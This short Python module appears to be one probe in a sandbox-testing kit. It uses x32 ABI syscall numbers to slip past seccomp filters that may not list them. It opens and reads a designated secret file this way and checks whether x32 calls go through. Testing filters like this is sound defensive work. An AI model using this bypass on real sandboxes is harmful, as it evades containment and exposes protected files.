"""Success: system calls by the x32 numbers, which a filter may not know."""

import ctypes
import os
import platform

from kit import got, libc


def attack(a):
    if platform.machine() != "x86_64":
        return "these numbers are on x86-64 only"
    found = []
    fd = libc.syscall(ctypes.c_long(0x40000000 | 2), a["secret_file"].encode(), 0)
    if fd >= 0:
        found.append(os.read(fd, 1000).decode())
    if libc.syscall(ctypes.c_long(0x40000000 | 39)) > 0:
        found.append(got("x32 is open"))
    return found
